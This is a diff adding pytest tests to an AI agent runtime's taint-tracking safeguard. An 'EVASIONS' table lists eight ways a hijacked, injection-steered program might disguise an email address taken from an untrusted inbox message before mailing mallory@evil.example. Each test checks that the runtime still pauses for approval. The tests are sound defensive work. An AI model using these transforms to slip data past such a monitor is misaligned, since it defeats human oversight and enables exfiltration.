@@ -179,3 +179,39 @@ async def test_p45_a_journaled_verdict_edited_in_the_store_is_refused_on_resume(
         r = await rt.resume(paused.run_id, "approve")
         assert r.status == "failed" and r.error["code"] == "run_tampered", r.error
     assert mail.sent == []
+
+
+# Point 7 of the design: a hijacked program transforms the untrusted value before writing it. Each still asks,
+# by the static pass (the value derives from the inbox's result whatever the transform).
+EVASIONS = {
+    "split_join": 'to = "@".join(mails[1]["body"].split()[9].split("@"))',
+    "case": 'to = [w for w in mails[1]["body"].split() if "@" in w][0].upper().lower()',
+    "reversal": 'to = [w for w in mails[1]["body"].split() if "@" in w][0][::-1][::-1]',
+    "base64": ('import base64\n'
+               'to = base64.b64decode(base64.b64encode([w for w in mails[1]["body"].split() if "@" in w][0]'
+               '.encode())).decode()'),
+    "slicing": 'b = mails[1]["body"]\ni = b.index("mallory")\nto = b[i:i + len("mallory@evil.example")]',
+    "f_string": 'user = mails[1]["body"].split()[9].split("@")[0]\nto = f"{user}@evil.example"',
+    "id_arithmetic": 'n = len(mails[1]["id"]) * 0 + 1\nto = INBOX_IDS[n]',
+    "comprehension_filter": 'to = [w for w in mails[1]["body"].split() if w.endswith(".example")][0]',
+}
+
+
+@pytest.mark.parametrize("name", sorted(EVASIONS))
+async def test_p45_a_transformed_untrusted_destination_still_asks(backend, name):
+    mail = Mail()
+    transform = EVASIONS[name]
+    if name == "id_arithmetic":
+        # An id the inbox returned, reached by arithmetic on another of its values.
+        transform = 'INBOX_IDS = [m["sender"] for m in mails]\n' + transform
+    program = ("import tools\n"
+               "mails = await tools.mail.get_received_emails()\n"
+               f"{transform}\n"
+               "await tools.mail.send_email(recipients=[to], subject='s', body='b')\n")
+    async with backend.runtime(mail) as rt:
+        paused = await rt.execute(program)
+        assert paused.status == "paused", (name, paused.error)
+        reasons = [r for r in paused.pending["writes"][0]["reasons"] if r["asks"]]
+        assert reasons and all(r["untrusted"] for r in reasons), reasons
+        assert "mail.get_received_emails" in reasons[0]["says"]
+    assert mail.sent == []
